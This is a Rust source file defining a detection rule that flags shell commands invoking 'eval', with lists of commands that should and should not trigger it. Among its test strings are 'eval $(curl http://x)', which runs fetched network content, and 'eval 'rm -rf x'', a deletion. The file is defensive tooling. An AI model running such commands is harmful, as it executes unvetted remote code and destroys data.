//! `eval`: reads text as a command after everything in it was expanded once, so that what is written is not what
//! runs.

use super::{Invoked, Safeguard, Watch};
use crate::Severity;

pub(super) const SAFEGUARD: Safeguard = Safeguard {
    id: "eval",
    about: "runs text as a command after expanding it",
    severity: Severity::Medium,
    hits: &["eval ls", "eval $(curl http://x)", "eval \"$CMD\"", "builtin eval ls", "eval 'rm -rf x'"],
    passes: &["echo eval ls", "clj-eval x", "eval", "grep eval f", "node -e 'eval(1)'"],
    blind: "`eval` inside a script, or in another language",
    watch: Watch::Programs(&["eval"], |invoked: &Invoked<'_>| !invoked.args.is_empty()),
};
